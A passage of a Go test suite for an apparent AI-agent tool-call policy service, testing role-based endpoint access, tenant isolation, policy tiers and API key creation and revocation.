package http_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"reflect"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gowebpki/jcs"

	"github.com/reinhq/rein"
	"github.com/reinhq/rein/console"
	"github.com/reinhq/rein/events"
	reinhttp "github.com/reinhq/rein/http"
	"github.com/reinhq/rein/pipeline"
	"github.com/reinhq/rein/policy"
	"github.com/reinhq/rein/serve"
	"github.com/reinhq/rein/sqlite"
	"github.com/reinhq/rein/webpush"
)

// ---------------------------------------------------------------------------
// Policies used by the tests.
// ---------------------------------------------------------------------------

// globalPolicy is the global tier of most tests: one rule per decision kind,
// plus a rule that errors at run time when args.x is missing.
const globalPolicy = `version: 1
default: deny
approval:
  approvers: ["role:approver"]
  quorum: 1
rules:
  - id: files-read
    when: 'tool == "fs.read"'
    decision: allow
    reason: "reading files is fine"
  - id: deploy-review
    when: 'tool == "deploy"'
    decision: ask
    reason: "deployments need an approval"
    approval: {approvers: ["group:oncall"], quorum: 2}
  - id: no-danger
    when: 'tool == "danger"'
    decision: deny
    reason: "danger is never allowed"
  - id: calc-needs-x
    when: 'tool == "calc" && args.x > 1'
    decision: allow
`

// globalRuleIDs are the rule ids of globalPolicy in file order.
var globalRuleIDs = []string{"files-read", "deploy-review", "no-danger", "calc-needs-x"}

// acmePolicy is a small tenant tier for acme: it only adds a restriction.
const acmePolicy = `version: 1
rules:
  - id: acme-no-secret
    when: 'tool == "fs.read" && has(args.path) && args.path == "secret"'
    decision: deny
    reason: "acme keeps its secret"
`

var acmeRuleIDs = []string{"acme-no-secret"}

// acmeLoosening is a tenant tier that tries to loosen the global tier in
// every way it can: allowing a globally denied tool, a tool that needs an
// approval, a tool no global rule allows, and a default of allow.
const acmeLoosening = `version: 1
default: allow
rules:
  - id: acme-allow-danger
    when: 'tool == "danger"'
    decision: allow
  - id: acme-allow-deploy
    when: 'tool == "deploy"'
    decision: allow
  - id: acme-allow-unlisted
    when: 'tool == "unlisted.tool"'
    decision: allow
  - id: acme-no-secret
    when: 'tool == "fs.read" && has(args.path) && args.path == "secret"'
    decision: deny
    reason: "acme keeps its secret"
`

// ---------------------------------------------------------------------------
// Test server.
// ---------------------------------------------------------------------------

// testKey is an API key created for a test, with its secret.
type testKey struct {
	ID     string
	Name   string
	Tenant string
	Roles  []rein.Role
	Secret string
}

// env is one in-process rein: a SQLite store in a temporary directory, the
// policy tiers, the pipeline and the HTTP API behind an httptest server.
type env struct {
	t      testing.TB
	ctx    context.Context
	store  *sqlite.DB
	active *policy.Active
	pols   *serve.Policies
	srv    *httptest.Server
	pipe   *pipeline.Pipeline
	api    *reinhttp.Server
	keys   map[string]*testKey
	// push is a push service for the env's Web Push: it takes messages
	// under /push/ and answers 410 (gone) under /push/gone.
	push *httptest.Server
}

// tenants are the two ordinary tenants every env has.
var tenants = []string{"acme", "globex"}

// newEnv starts a server. With global != "" that policy is activated as the
// global tier; with "" no policy is loaded. Keys: "root" (admin of tenant
// "*"), and for each tenant T: T-admin, T-approver (group oncall), T-agent,
// T-auditor and a second agent T-agent2.
func newEnv(t testing.TB, global string) *env {
	t.Helper()
	ctx := context.Background()
	store, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "rein.db"))
	if err != nil {
		t.Fatalf("open store: %v", err)
	}
	t.Cleanup(func() { store.Close() })

	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	active := &policy.Active{}
	pols := &serve.Policies{Store: store, Active: active, Log: log, Now: time.Now}
	bus := &events.Bus{}
	pipe := &pipeline.Pipeline{Store: store, Policies: active, Log: log, Events: bus}
	api := &reinhttp.Server{Pipeline: pipe, Policies: active, Admin: pols, Log: log, Events: bus,
		Ready: func(ctx context.Context) error {
			if err := store.Ping(ctx); err != nil {
				return fmt.Errorf("store unreachable: %v", err)
			}
			if active.Tier("") == nil && len(active.Tenants()) == 0 {
				return fmt.Errorf("no policy loaded")
			}
			return nil
		}}
	withStores(api, store)
	// The web console is mounted as rein serve mounts it, so that every API
	// test also shows that bearer keys work as before beside it.
	web := &console.Console{Keys: store, SignOuts: store, Log: log, Sealer: &console.Sealer{Secret: []byte(testConsoleSecret)}}
	api.Console, api.Sessions = web.Handler(), web
	pushSrv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		if strings.HasPrefix(r.URL.Path, "/push/gone") {
			w.WriteHeader(http.StatusGone)
			return
		}
		w.WriteHeader(http.StatusCreated)
	}))
	t.Cleanup(pushSrv.Close)
	vapid, err := webpush.KeyFromSecret([]byte(testConsoleSecret))
	if err != nil {
		t.Fatal(err)
	}
	api.Push = &webpush.Sender{VAPID: &webpush.VAPID{Key: vapid, Subject: "mailto:ops@example.com"}, Services: []string{pushSrv.URL + "/push/"}}
	srv := httptest.NewServer(api.Handler())
	t.Cleanup(srv.Close)
	t.Cleanup(pipe.StopWaiting) // runs first: long-polls answer, so that Close does not wait on them
	t.Cleanup(api.Stop)         // event streams end
	pipe.BaseURL = srv.URL

	e := &env{t: t, ctx: ctx, store: store, active: active, pols: pols, srv: srv, pipe: pipe, api: api, keys: map[string]*testKey{}, push: pushSrv}
	e.addKey("root", rein.AllTenants, rein.RoleAdmin)
	for _, tenant := range tenants {
		e.addKey(tenant+"-admin", tenant, rein.RoleAdmin)
		e.addKey(tenant+"-approver", tenant, rein.RoleApprover)
		e.addKey(tenant+"-agent", tenant, rein.RoleAgent)
		e.addKey(tenant+"-auditor", tenant, rein.RoleAuditor)
		e.addKey(tenant+"-agent2", tenant, rein.RoleAgent)
	}
	if global != "" {
		e.activate("", global)
	}
	return e
}

// addKey creates a key directly through the store.
func (e *env) addKey(name, tenant string, roles ...rein.Role) *testKey {
	e.t.Helper()
	secret, hash := rein.NewSecret()
	groups := []string{}
	if slices.Contains(roles, rein.RoleApprover) {
		groups = []string{"oncall"}
	}
	k := &rein.Key{ID: rein.NewID("key"), Name: name, Tenant: tenant, Roles: roles, Groups: groups,
		CreatedAt: time.Now().UTC(), SecretHash: hash}
	entry := &rein.Entry{TS: k.CreatedAt, Tenant: tenant, Kind: rein.KindKeyCreated, Actor: "test", Subject: k.ID,
		Data: map[string]any{"name": name, "roles": roles, "groups": groups}}
	if err := e.store.CreateKey(e.ctx, k, entry); err != nil {
		e.t.Fatalf("create key %s: %v", name, err)
	}
	tk := &testKey{ID: k.ID, Name: name, Tenant: tenant, Roles: roles, Secret: secret}
	e.keys[name] = tk
	return tk
}

// key returns a test key by name.
func (e *env) key(name string) *testKey {
	e.t.Helper()
	k, ok := e.keys[name]
	if !ok {
		e.t.Fatalf("no test key %q", name)
	}
	return k
}

// activate makes src the policy of a tier ("" is global) through the PolicyAdmin.
func (e *env) activate(tenant, src string) *rein.PolicyDoc {
	e.t.Helper()
	doc, err := e.pols.Activate(e.ctx, tenant, []byte(src), "test", "test")
	if err != nil {
		e.t.Fatalf("activate policy (tier %q): %v", tenant, err)
	}
	return doc
}

// entryCount is the size of the audit log.
func (e *env) entryCount() int {
	e.t.Helper()
	entries, err := e.store.Entries(e.ctx, 0, 1<<30)
	if err != nil {
		e.t.Fatalf("read audit entries: %v", err)
	}
	return len(entries)
}

// entry returns the audit entry at index, decoded.
func (e *env) entry(index int64) map[string]any {
	e.t.Helper()
	entries, err := e.store.Entries(e.ctx, index, 1)
	if err != nil || len(entries) != 1 {
		e.t.Fatalf("audit entry %d: %v (got %d entries)", index, err, len(entries))
	}
	return decodeObject(e.t, entries[0].Bytes)
}

// ---------------------------------------------------------------------------
// Requests.
// ---------------------------------------------------------------------------

// apiResp is one answer of the server.
type apiResp struct {
	Status int
	Header http.Header
	Body   []byte
}

// yamlBody is a request body sent as application/yaml.
type yamlBody string

// send makes a request with the given headers. body is nil (no body), a
// string or []byte (sent as is), a yamlBody, or a value encoded as JSON.
// It reports transport errors with Errorf, so it may run in goroutines.
func (e *env) send(method, path string, header http.Header, body any) *apiResp {
	e.t.Helper()
	var rd io.Reader
	contentType := "application/json"
	switch b := body.(type) {
	case nil:
	case string:
		rd = strings.NewReader(b)
	case []byte:
		rd = bytes.NewReader(b)
	case yamlBody:
		rd, contentType = strings.NewReader(string(b)), "application/yaml"
	default:
		raw, err := json.Marshal(b)
		if err != nil {
			e.t.Errorf("encode request body: %v", err)
			return &apiResp{}
		}
		rd = bytes.NewReader(raw)
	}
	req, err := http.NewRequestWithContext(e.ctx, method, e.srv.URL+path, rd)
	if err != nil {
		e.t.Errorf("new request %s %s: %v", method, path, err)
		return &apiResp{}
	}
	if rd != nil {
		req.Header.Set("Content-Type", contentType)
	}
	for k, vs := range header {
		for _, v := range vs {
			req.Header.Add(k, v)
		}
	}
	res, err := e.srv.Client().Do(req)
	if err != nil {
		e.t.Errorf("%s %s: %v", method, path, err)
		return &apiResp{}
	}
	defer res.Body.Close()
	raw, err := io.ReadAll(res.Body)
	if err != nil {
		e.t.Errorf("%s %s: read body: %v", method, path, err)
	}
	return &apiResp{Status: res.StatusCode, Header: res.Header, Body: raw}
}

// do makes a request authenticated with the named key ("" sends no Authorization).
func (e *env) do(method, path, key string, body any) *apiResp {
	e.t.Helper()
	h := http.Header{}
	if key != "" {
		h.Set("Authorization", "Bearer "+e.key(key).Secret)
	}
	return e.send(method, path, h, body)
}

// check posts a check that must be answered 200 and returns the answer.
func (e *env) check(key string, body any) map[string]any {
	e.t.Helper()
	r := e.do("POST", "/v1/check", key, body)
	wantStatus(e.t, r, http.StatusOK)
	return r.object(e.t)
}

// object decodes the body as one JSON object (numbers as json.Number).
func (r *apiResp) object(t testing.TB) map[string]any {
	t.Helper()
	return decodeObject(t, r.Body)
}

func decodeObject(t testing.TB, raw []byte) map[string]any {
	t.Helper()
	dec := json.NewDecoder(bytes.NewReader(raw))
	dec.UseNumber()
	var m map[string]any
	if err := dec.Decode(&m); err != nil || m == nil {
		t.Fatalf("body is not a JSON object (%v): %s", err, raw)
	}
	return m
}

// ---------------------------------------------------------------------------
// Assertions.
// ---------------------------------------------------------------------------

func wantStatus(t testing.TB, r *apiResp, status int) {
	t.Helper()
	if r.Status != status {
		t.Fatalf("status %d, want %d; body: %s", r.Status, status, r.Body)
	}
}

// wantError checks an error answer: the status, a JSON content type, and the
// body {"error": {"code": code, "message": "..."}} of api.md (Errors). The
// error object may carry "problems" (policy errors) and nothing else. It
// returns the message.
func wantError(t testing.TB, r *apiResp, status int, code string) string {
	t.Helper()
	if r.Status != status {
		t.Fatalf("status %d, want %d (%s); body: %s", r.Status, status, code, r.Body)
	}
	if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
		t.Errorf("error Content-Type %q, want application/json", ct)
	}
	body := decodeObject(t, r.Body)
	if got := keysOf(body); !reflect.DeepEqual(got, []string{"error"}) {
		t.Fatalf("error body has fields %v, want exactly [error]; body: %s", got, r.Body)
	}
	obj, ok := body["error"].(map[string]any)
	if !ok {
		t.Fatalf("\"error\" is not an object; body: %s", r.Body)
	}
	for k := range obj {
		if k != "code" && k != "message" && k != "problems" {
			t.Errorf("error object has unexpected field %q; body: %s", k, r.Body)
		}
	}
	gotCode, _ := obj["code"].(string)
	if gotCode != code {
		t.Errorf("error code %q, want %q; body: %s", gotCode, code, r.Body)
	}
	msg, _ := obj["message"].(string)
	if strings.TrimSpace(msg) == "" {
		t.Errorf("error message is empty; body: %s", r.Body)
	}
	return msg
}

// wantFields checks that an object has exactly the given fields.
func wantFields(t testing.TB, what string, m map[string]any, fields ...string) {
	t.Helper()
	want := append([]string(nil), fields...)
	sort.Strings(want)
	if got := keysOf(m); !reflect.DeepEqual(got, want) {
		t.Errorf("%s has fields %v, want exactly %v", what, got, want)
	}
}

func keysOf(m map[string]any) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

func str(m map[string]any, field string) string {
	s, _ := m[field].(string)
	return s
}

func integer(t testing.TB, v any) int64 {
	t.Helper()
	n, ok := v.(json.Number)
	if !ok {
		t.Fatalf("%v (%T) is not a number", v, v)
	}
	i, err := n.Int64()
	if err != nil {
		t.Fatalf("%v is not an integer: %v", n, err)
	}
	return i
}

// wantDecision checks a check answer's decision and, if given, its rule.
func wantDecision(t testing.TB, res map[string]any, decision, rule string) {
	t.Helper()
	if got := str(res, "decision"); got != decision {
		t.Errorf("decision %q, want %q (rule %q, reason %q)", got, decision, str(res, "rule"), str(res, "reason"))
	}
	if rule != "" && str(res, "rule") != rule {
		t.Errorf("rule %q, want %q (reason %q)", str(res, "rule"), rule, str(res, "reason"))
	}
}

// sameJSON reports whether two JSON texts hold the same value.
func sameJSON(t testing.TB, a, b []byte) bool {
	t.Helper()
	var x, y any
	if err := json.Unmarshal(a, &x); err != nil {
		t.Fatalf("decode %s: %v", a, err)
	}
	if err := json.Unmarshal(b, &y); err != nil {
		t.Fatalf("decode %s: %v", b, err)
	}
	return reflect.DeepEqual(x, y)
}

// actionHash computes the action hash of api.md independently: "sha256:" +
// hex SHA-256 of the JCS form of {tenant, agent, session, tool, args}.
func actionHash(t testing.TB, tenant, agent, session, tool, args string) string {
	t.Helper()
	if args == "" {
		args = "{}"
	}
	raw, err := json.Marshal(map[string]any{"tenant": tenant, "agent": agent, "session": session, "tool": tool,
		"args": json.RawMessage(args)})
	if err != nil {
		t.Fatalf("encode action: %v", err)
	}
	canon, err := jcs.Transform(raw)
	if err != nil {
		t.Fatalf("canonicalise action: %v", err)
	}
	sum := sha256.Sum256(canon)
	return "sha256:" + hex.EncodeToString(sum[:])
}

func sha256Version(b string) string {
	sum := sha256.Sum256([]byte(b))
	return "sha256:" + hex.EncodeToString(sum[:])
}

// combinedVersion is the policy_version of a tenant with a tier of its own.
func combinedVersion(global, tenant string) string {
	return sha256Version(global + "\n" + tenant)
}

// ---------------------------------------------------------------------------
// 1. Endpoint x role matrix.
// ---------------------------------------------------------------------------

type endpoint struct {
	name   string
	method string
	// roles may call the endpoint; every other role gets 403.
	roles []rein.Role
	// ok is the status an allowed call answers.
	ok int
	// mutates: an allowed call writes an audit entry; reads never do.
	mutates bool
	// prepare returns the path and body for one call by the named key.
	prepare func(e *env, key string) (path string, body any)
}

func TestRoleMatrix(t *testing.T) {
	e := newEnv(t, globalPolicy)
	e.activate("acme", acmePolicy)
	agentCheck := str(e.check("acme-agent", map[string]any{"tool": "fs.read", "args": map[string]any{"path": "a"}}), "id")

	n := 0
	endpoints := []endpoint{
		{name: "POST /v1/check", method: "POST", roles: []rein.Role{rein.RoleAgent, rein.RoleAdmin}, ok: 200, mutates: true,
			prepare: func(e *env, key string) (string, any) {
				return "/v1/check", map[string]any{"tool": "fs.read", "args": map[string]any{"path": "README.md"}}
			}},
		{name: "GET /v1/checks/{id}", method: "GET",
			roles: []rein.Role{rein.RoleAgent, rein.RoleAdmin, rein.RoleApprover, rein.RoleAuditor}, ok: 200,
			prepare: func(e *env, key string) (string, any) { return "/v1/checks/" + agentCheck, nil }},
		{name: "GET /v1/policy", method: "GET", roles: []rein.Role{rein.RoleAdmin, rein.RoleAuditor}, ok: 200,
			prepare: func(e *env, key string) (string, any) { return "/v1/policy", nil }},
		{name: "PUT /v1/policy", method: "PUT", roles: []rein.Role{rein.RoleAdmin}, ok: 200, mutates: true,
			prepare: func(e *env, key string) (string, any) {
				if e.key(key).Tenant == rein.AllTenants {
					return "/v1/policy", yamlBody(globalPolicy)
				}
				return "/v1/policy", yamlBody(acmePolicy)
			}},
		{name: "POST /v1/policy/simulate", method: "POST", roles: []rein.Role{rein.RoleAdmin, rein.RoleAuditor}, ok: 200,
			prepare: func(e *env, key string) (string, any) {
				return "/v1/policy/simulate", map[string]any{"check": map[string]any{"tool": "deploy"}}
			}},
		{name: "POST /v1/keys", method: "POST", roles: []rein.Role{rein.RoleAdmin}, ok: 201, mutates: true,
			prepare: func(e *env, key string) (string, any) {
				n++
				return "/v1/keys", map[string]any{"name": fmt.Sprintf("made-%d", n), "roles": []string{"agent"}}
			}},
		{name: "GET /v1/keys", method: "GET", roles: []rein.Role{rein.RoleAdmin}, ok: 200,
			prepare: func(e *env, key string) (string, any) { return "/v1/keys", nil }},
		{name: "DELETE /v1/keys/{id}", method: "DELETE", roles: []rein.Role{rein.RoleAdmin}, ok: 204, mutates: true,
			prepare: func(e *env, key string) (string, any) {
				n++
				return "/v1/keys/" + e.addKey(fmt.Sprintf("victim-%d", n), "acme", rein.RoleAgent).ID, nil
			}},
	}
	askQuestion := func() string {
		r := e.do("POST", "/v1/questions", "acme-agent", map[string]any{"text": "which?"})
		wantStatus(t, r, http.StatusCreated)
		return str(r.object(t), "id")
	}
	question := askQuestion()
	endpoints = append(endpoints,
		endpoint{name: "POST /v1/questions", method: "POST", roles: []rein.Role{rein.RoleAgent, rein.RoleAdmin}, ok: 201, mutates: true,
			prepare: func(e *env, key string) (string, any) { return "/v1/questions", map[string]any{"text": "which?"} }},
		endpoint{name: "GET /v1/questions", method: "GET", roles: []rein.Role{rein.RoleApprover, rein.RoleAdmin, rein.RoleAuditor}, ok: 200,
			prepare: func(e *env, key string) (string, any) { return "/v1/questions", nil }},
		endpoint{name: "GET /v1/questions/{id}", method: "GET",
			roles: []rein.Role{rein.RoleAgent, rein.RoleAdmin, rein.RoleApprover, rein.RoleAuditor}, ok: 200,
			prepare: func(e *env, key string) (string, any) { return "/v1/questions/" + question, nil }},
		endpoint{name: "POST /v1/questions/{id}/answer", method: "POST", roles: []rein.Role{rein.RoleApprover, rein.RoleAdmin}, ok: 200, mutates: true,
			prepare: func(e *env, key string) (string, any) {
				return "/v1/questions/" + askQuestion() + "/answer", map[string]any{"answer": "this one"}
			}},
		endpoint{name: "GET /v1/questions/{id}/wait", method: "GET", roles: []rein.Role{rein.RoleAgent, rein.RoleAdmin}, ok: 200,
			prepare: func(e *env, key string) (string, any) { return "/v1/questions/" + question + "/wait?timeout_ms=0", nil }},
		endpoint{name: "POST /v1/questions/{id}/cancel", method: "POST", roles: []rein.Role{rein.RoleAgent, rein.RoleAdmin}, ok: 200, mutates: true,
			prepare: func(e *env, key string) (string, any) { return "/v1/questions/" + askQuestion() + "/cancel", nil }},
	)
	callers := []string{"acme-admin", "acme-approver", "acme-agent", "acme-auditor", "root"}

	for _, ep := range endpoints {
		for _, caller := range callers {
			t.Run(ep.name+"/"+caller, func(t *testing.T) {
				k := e.key(caller)
				allowed := slices.ContainsFunc(k.Roles, func(r rein.Role) bool { return slices.Contains(ep.roles, r) })
				path, body := ep.prepare(e, caller)
				before := e.entryCount()
				r := e.do(ep.method, path, caller, body)
				after := e.entryCount()
				if !allowed {
					msg := wantError(t, r, http.StatusForbidden, rein.ECodeForbidden)
					if !strings.Contains(msg, caller) {
						t.Errorf("403 message %q does not name the key %q", msg, caller)
					}
					if after != before {
						t.Errorf("a forbidden call wrote %d audit entries", after-before)
					}
					return
				}
				wantStatus(t, r, ep.ok)
				switch {
				case ep.mutates && after <= before:
					t.Errorf("an allowed %s wrote no audit entry", ep.name)
				case !ep.mutates && after != before:
					t.Errorf("a read (%s) wrote %d audit entries", ep.name, after-before)
				}
			})
		}
	}
}

// TestForbiddenLeavesStateAlone: a forbidden call changes nothing.
func TestForbiddenLeavesStateAlone(t *testing.T) {
	e := newEnv(t, globalPolicy)
	victim := e.addKey("victim", "acme", rein.RoleAgent)

	for _, caller := range []string{"acme-approver", "acme-agent", "acme-auditor"} {
		wantError(t, e.do("DELETE", "/v1/keys/"+victim.ID, caller, nil), http.StatusForbidden, rein.ECodeForbidden)
		wantError(t, e.do("PUT", "/v1/policy", caller, yamlBody(acmeLoosening)), http.StatusForbidden, rein.ECodeForbidden)
		wantError(t, e.do("POST", "/v1/keys", caller, map[string]any{"name": "sneaky-" + caller, "roles": []string{"admin"}}),
			http.StatusForbidden, rein.ECodeForbidden)
	}
	if k, err := e.store.KeyByID(e.ctx, victim.ID); err != nil || k.RevokedAt != nil {
		t.Errorf("the victim key was revoked by a forbidden call (err %v)", err)
	}
	if e.active.Tier("acme") != nil {
		t.Errorf("a forbidden PUT /v1/policy activated a tenant tier")
	}
	keys, err := e.store.Keys(e.ctx, "acme")
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range keys {
		if strings.HasPrefix(k.Name, "sneaky-") {
			t.Errorf("a forbidden POST /v1/keys created key %q", k.Name)
		}
	}
	e.check("acme-agent", map[string]any{"tool": "fs.read"}) // the victim's tenant still works
}

// ---------------------------------------------------------------------------
// 2. Tenant isolation.
// ---------------------------------------------------------------------------

func TestCrossTenantChecksAnswer404(t *testing.T) {
	e := newEnv(t, globalPolicy)
	globexCheck := e.check("globex-agent", map[string]any{"tool": "fs.read"})
	globexID := str(globexCheck, "id")
	otherAgentCheck := str(e.check("acme-agent2", map[string]any{"tool": "fs.read"}), "id")

	cases := []struct {
		name, key, id string
		status        int
	}{
		{"acme admin reads a globex check", "acme-admin", globexID, 404},
		{"acme approver reads a globex check", "acme-approver", globexID, 404},
		{"acme auditor reads a globex check", "acme-auditor", globexID, 404},
		{"acme agent reads a globex check", "acme-agent", globexID, 404},
		{"acme agent reads another acme agent's check", "acme-agent", otherAgentCheck, 404},
		{"acme agent2 reads its own check", "acme-agent2", otherAgentCheck, 200},
		{"acme admin reads an acme check", "acme-admin", otherAgentCheck, 200},
		{"acme auditor reads an acme check", "acme-auditor", otherAgentCheck, 200},
		{"acme approver reads an acme check", "acme-approver", otherAgentCheck, 200},
		{"globex admin reads the globex check", "globex-admin", globexID, 200},
		{"root reads the globex check", "root", globexID, 200},
		{"root reads an acme check", "root", otherAgentCheck, 200},
		{"acme admin reads a check that does not exist", "acme-admin", "chk_00000000000000000000000000", 404},
	}
	var notFoundMessages []string
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := e.do("GET", "/v1/checks/"+c.id, c.key, nil)
			if c.status == 404 {
				msg := wantError(t, r, http.StatusNotFound, rein.ECodeNotFound)
				if strings.Contains(msg, "globex") {
					t.Errorf("404 message %q leaks the owning tenant", msg)
				}
				notFoundMessages = append(notFoundMessages, strings.ReplaceAll(msg, c.id, "ID"))
				return
			}
			wantStatus(t, r, 200)
			if got := str(r.object(t), "id"); got != c.id {
				t.Errorf("check id %q, want %q", got, c.id)
			}
		})
	}
	// A foreign check and a missing one must look alike.
	for _, m := range notFoundMessages[1:] {
		if m != notFoundMessages[0] {
			t.Errorf("404 messages differ (%q vs %q): they tell a foreign object from a missing one", m, notFoundMessages[0])
		}
	}
}

func TestCrossTenantKeys(t *testing.T) {
	e := newEnv(t, globalPolicy)
	globexKey := e.key("globex-agent2")

	t.Run("acme admin revokes a globex key: 404, key still works", func(t *testing.T) {
		msg := wantError(t, e.do("DELETE", "/v1/keys/"+globexKey.ID, "acme-admin", nil), http.StatusNotFound, rein.ECodeNotFound)
		if strings.Contains(msg, "globex") {
			t.Errorf("404 message %q leaks the owning tenant", msg)
		}
		e.check("globex-agent2", map[string]any{"tool": "fs.read"})
	})
	t.Run("acme admin revokes the root key: 404", func(t *testing.T) {
		wantError(t, e.do("DELETE", "/v1/keys/"+e.key("root").ID, "acme-admin", nil), http.StatusNotFound, rein.ECodeNotFound)
	})
	t.Run("acme admin revokes a key that does not exist: 404", func(t *testing.T) {
		wantError(t, e.do("DELETE", "/v1/keys/key_00000000000000000000000000", "acme-admin", nil), http.StatusNotFound, rein.ECodeNotFound)
	})
	for _, tenant := range []string{"globex", rein.AllTenants} {
		t.Run("acme admin creates a key in tenant "+tenant+": 403", func(t *testing.T) {
			before := e.entryCount()
			r := e.do("POST", "/v1/keys", "acme-admin", map[string]any{"name": "intruder", "tenant": tenant, "roles": []string{"admin"}})
			wantError(t, r, http.StatusForbidden, rein.ECodeForbidden)
			if e.entryCount() != before {
				t.Errorf("the refused key creation wrote an audit entry")
			}
		})
	}
	t.Run("acme admin lists keys: only acme", func(t *testing.T) {
		r := e.do("GET", "/v1/keys", "acme-admin", nil)
		wantStatus(t, r, 200)
		names := map[string]bool{}
		for _, k := range listKeys(t, r) {
			if str(k, "tenant") != "acme" {
				t.Errorf("acme admin sees key %q of tenant %q", str(k, "name"), str(k, "tenant"))
			}
			names[str(k, "name")] = true
		}
		for _, want := range []string{"acme-admin", "acme-approver", "acme-agent", "acme-auditor", "acme-agent2"} {
			if !names[want] {
				t.Errorf("acme admin's key list lacks %q", want)
			}
		}
	})
	t.Run("acme admin lists globex keys: refused, nothing leaks", func(t *testing.T) {
		r := e.do("GET", "/v1/keys?tenant=globex", "acme-admin", nil)
		if r.Status != http.StatusForbidden && r.Status != http.StatusNotFound {
			t.Fatalf("status %d, want 403 or 404; body: %s", r.Status, r.Body)
		}
		if bytes.Contains(r.Body, []byte("globex-agent")) {
			t.Errorf("the refusal leaks globex keys: %s", r.Body)
		}
	})
	t.Run("root lists keys: every tenant", func(t *testing.T) {
		r := e.do("GET", "/v1/keys", "root", nil)
		wantStatus(t, r, 200)
		seen := map[string]bool{}
		for _, k := range listKeys(t, r) {
			seen[str(k, "tenant")] = true
		}
		for _, want := range []string{"acme", "globex", rein.AllTenants} {
			if !seen[want] {
				t.Errorf("root's key list has no key of tenant %q", want)
			}
		}
	})
	t.Run("root lists globex keys only", func(t *testing.T) {
		r := e.do("GET", "/v1/keys?tenant=globex", "root", nil)
		wantStatus(t, r, 200)
		keys := listKeys(t, r)
		if len(keys) == 0 {
			t.Fatalf("no globex keys listed")
		}
		for _, k := range keys {
			if str(k, "tenant") != "globex" {
				t.Errorf("?tenant=globex lists key %q of tenant %q", str(k, "name"), str(k, "tenant"))
			}
		}
	})
	t.Run("root revokes a globex key: 204, key stops working", func(t *testing.T) {
		wantStatus(t, e.do("DELETE", "/v1/keys/"+globexKey.ID, "root", nil), http.StatusNoContent)
		wantError(t, e.do("POST", "/v1/check", "globex-agent2", map[string]any{"tool": "fs.read"}),
			http.StatusUnauthorized, rein.ECodeUnauthenticated)
	})
	t.Run("acme admin reads the globex policy tier: refused", func(t *testing.T) {
		e.activate("globex", acmePolicy)
		r := e.do("GET", "/v1/policy?tenant=globex", "acme-admin", nil)
		if r.Status != http.StatusForbidden && r.Status != http.StatusNotFound {
			t.Fatalf("status %d, want 403 or 404; body: %s", r.Status, r.Body)
		}
		if bytes.Contains(r.Body, []byte("acme-no-secret")) {
			t.Errorf("the refusal leaks the globex policy: %s", r.Body)
		}
	})
}

func listKeys(t testing.TB, r *apiResp) []map[string]any {
	t.Helper()
	body := r.object(t)
	list, ok := body["keys"].([]any)
	if !ok {
		t.Fatalf("\"keys\" is not a list: %s", r.Body)
	}
	out := make([]map[string]any, 0, len(list))
	for _, x := range list {
		k, ok := x.(map[string]any)
		if !ok {
			t.Fatalf("a key is not an object: %s", r.Body)
		}
		out = append(out, k)
	}
	return out
}

// ---------------------------------------------------------------------------
// Keys.
// ---------------------------------------------------------------------------

func TestKeysLifecycle(t *testing.T) {
	e := newEnv(t, globalPolicy)

	r := e.do("POST", "/v1/keys", "acme-admin", map[string]any{"name": "ci-bot", "roles": []string{"agent"}, "groups": []string{"ci"}})
	wantStatus(t, r, http.StatusCreated)
	created := r.object(t)
	for _, f := range []string{"id", "name", "tenant", "roles", "groups", "created_at", "key"} {
		if _, ok := created[f]; !ok {
			t.Errorf("created key lacks %q: %s", f, r.Body)
		}
	}
	if _, ok := created["secret_hash"]; ok {
		t.Errorf("created key shows its secret hash: %s", r.Body)
	}
	if str(created, "tenant") != "acme" || str(created, "name") != "ci-bot" {
		t.Errorf("created key is %q in tenant %q, want ci-bot in acme", str(created, "name"), str(created, "tenant"))
	}
	secret := str(created, "key")
	if !strings.HasPrefix(secret, "rein_") {
		t.Errorf("secret %q does not start with rein_", secret)
	}
	e.keys["ci-bot"] = &testKey{ID: str(created, "id"), Name: "ci-bot", Tenant: "acme", Roles: []rein.Role{rein.RoleAgent}, Secret: secret}

	t.Run("the new key works", func(t *testing.T) {
		res := e.check("ci-bot", map[string]any{"tool": "fs.read"})
		wantDecision(t, res, "allow", "files-read")
	})
	t.Run("the secret is stored hashed and never listed", func(t *testing.T) {
		r := e.do("GET", "/v1/keys", "acme-admin", nil)
		wantStatus(t, r, 200)
		if bytes.Contains(r.Body, []byte(secret)) || bytes.Contains(r.Body, []byte(rein.HashSecret(secret))) {
			t.Errorf("GET /v1/keys shows a secret or its hash")
		}
		for _, k := range listKeys(t, r) {
			if _, ok := k["key"]; ok {
				t.Errorf("listed key %q has a \"key\" field", str(k, "name"))
			}
		}
	})
	t.Run("a duplicate name in the tenant is 409", func(t *testing.T) {
		wantError(t, e.do("POST", "/v1/keys", "acme-admin", map[string]any{"name": "ci-bot", "roles": []string{"agent"}}),
			http.StatusConflict, rein.ECodeConflict)
	})
	t.Run("the same name in another tenant is fine", func(t *testing.T) {
		r := e.do("POST", "/v1/keys", "globex-admin", map[string]any{"name": "ci-bot", "roles": []string{"agent"}})
		wantStatus(t, r, http.StatusCreated)
		if got := str(r.object(t), "tenant"); got != "globex" {
			t.Errorf("tenant %q, want globex", got)
		}
	})
	t.Run("root creates a key in a named tenant", func(t *testing.T) {
		r := e.do("POST", "/v1/keys", "root", map[string]any{"name": "ops", "tenant": "globex", "roles": []string{"auditor"}})
		wantStatus(t, r, http.StatusCreated)
		if got := str(r.object(t), "tenant"); got != "globex" {
			t.Errorf("tenant %q, want globex", got)
		}
	})

	bad := []struct {
		name string
		body any
		want string
	}{
		{"unknown role", map[string]any{"name": "x1", "roles": []string{"superuser"}}, "superuser"},
		{"no roles", map[string]any{"name": "x2", "roles": []string{}}, "roles"},
		{"slash in name", map[string]any{"name": "a/b", "roles": []string{"agent"}}, "a/b"},
